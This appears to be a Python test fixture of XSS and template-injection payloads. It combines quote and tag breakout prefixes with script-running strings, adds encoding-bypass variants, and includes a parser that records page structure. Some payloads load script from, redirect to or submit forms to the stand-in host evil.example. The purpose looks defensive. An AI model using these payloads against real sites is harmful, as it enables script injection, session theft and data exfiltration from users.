"""What scripts get into pages with, as it would stand in a name, an answer or a path: ways out, and what then runs."""

from collections.abc import Sequence
from html.parser import HTMLParser
from itertools import product

# Out of a text, an attribute in either quotes or in none, and elements whose content is read in another way.
_OUT = (
    "",
    '">',
    "'>",
    '" ',
    "' ",
    "x ",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</option></select>",
    "-->",
    "]]>",
    "</label></form>",
    '\\">',
)
_RUNS = (
    "<script>alert(1)</script>",
    "<ScRiPt/src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=//evil.example>x</a>",
    "<form action=//evil.example><input type=submit>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "onmouseover=alert(1) style=position:fixed;inset:0",
    "autofocus onfocus=alert(1) x=",
    "<!--<img title='--><img src=x onerror=alert(1)>'>",
)
_ODD = (
    "{{ 1111*1111 }}",
    "{% for x in config %}{{ x }}{% endfor %}",
    "{{ ''.__class__.__mro__ }}",
    "{0.__class__}",
    "{name!r}",
    "%(name)s %s",
    "${1111*1111}",
    "#{1111*1111}",
    "<%= 1111*1111 %>",
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\uff1cscript\uff1ealert(1)",
    "\u02b9\u02ba<img src=x onerror=alert(1)>",
    "\u202e<b>x</b>",
    "\u2028alert(1)",
    "`-alert(1)-`",
    "<\x00script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=`x` onerror=alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
PAYLOADS: Sequence[str] = (*(out + runs for out, runs in product(_OUT, _RUNS)), *_ODD)


class _Structure(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, ...]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, *(name for name, _ in attrs)))

    def handle_endtag(self, tag: str) -> None:
        self.found.append(("/" + tag,))

    def handle_comment(self, data: str) -> None:
        self.found.append(("--",))


def structure(page: str) -> list[tuple[str, ...]]:
    """Return the elements of a page with the names of their attributes: what nobody's words may alter."""
    reader = _Structure()
    reader.feed(page)
    reader.close()
    return reader.found
